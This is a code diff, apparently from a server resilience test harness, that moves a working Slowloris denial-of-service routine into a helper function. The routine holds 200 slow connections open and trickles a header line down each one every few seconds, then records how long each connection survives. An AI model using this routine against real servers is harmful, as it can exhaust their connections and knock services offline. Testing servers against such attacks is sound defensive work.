@@ -677,6 +677,37 @@ def atk_many_headers(b):
             ok, r)
 
 
+def trickle_headers(states, t0, duration, period):
+    """Slowloris: every `period` s, one more header line on each open connection, until
+    `duration` after t0 or until the agent has closed them all. Each state is a dict with
+    "sock" (non-blocking), "opened", "closed" (None while open) and "answer" (bytes read)."""
+    next_send = time.monotonic() + period
+    while time.monotonic() - t0 < duration:
+        open_ = [st for st in states if st["closed"] is None]
+        if not open_:
+            break
+        by_sock = {st["sock"]: st for st in open_}
+        r, _, _ = select.select(list(by_sock), [], [], 0.2)
+        for c in r:
+            st = by_sock[c]
+            try:
+                data = c.recv(4096)
+            except OSError:
+                data = b""
+            if data:
+                st["answer"] += data
+            else:
+                st["closed"] = time.monotonic()
+        if time.monotonic() >= next_send:
+            next_send += period
+            for st in open_:
+                if st["closed"] is None:
+                    try:
+                        st["sock"].send(b"X-Slow: y\r\n")
+                    except OSError:
+                        st["closed"] = time.monotonic()
+
+
 def atk_slowloris(b):
     a = b.agent
     n, sources, period = 200, 4, 3.0
@@ -693,30 +724,7 @@ def atk_slowloris(b):
             socks[s.fileno()] = {"sock": s, "opened": time.monotonic(), "closed": None, "answer": b""}
         except OSError:
             connect_failed += 1
-    next_send = time.monotonic() + period
-    while time.monotonic() - t0 < duration:
-        open_ = [st for st in socks.values() if st["closed"] is None]
-        if not open_:
-            break
-        r, _, _ = select.select([st["sock"] for st in open_], [], [], 0.2)
-        for s in r:
-            st = socks[s.fileno()]
-            try:
-                data = s.recv(4096)
-            except OSError:
-                data = b""
-            if data:
-                st["answer"] += data
-            else:
-                st["closed"] = time.monotonic()
-        if time.monotonic() >= next_send:
-            next_send += period
-            for st in open_:
-                if st["closed"] is None:
-                    try:
-                        st["sock"].send(b"X-Slow: y\r\n")
-                    except OSError:
-                        st["closed"] = time.monotonic()
+    trickle_headers(list(socks.values()), t0, duration, period)
     lifetimes = [st["closed"] - st["opened"] for st in socks.values() if st["closed"] is not None]
     still_open = sum(1 for st in socks.values() if st["closed"] is None)
     early = sum(1 for x in lifetimes if x < 2.0)
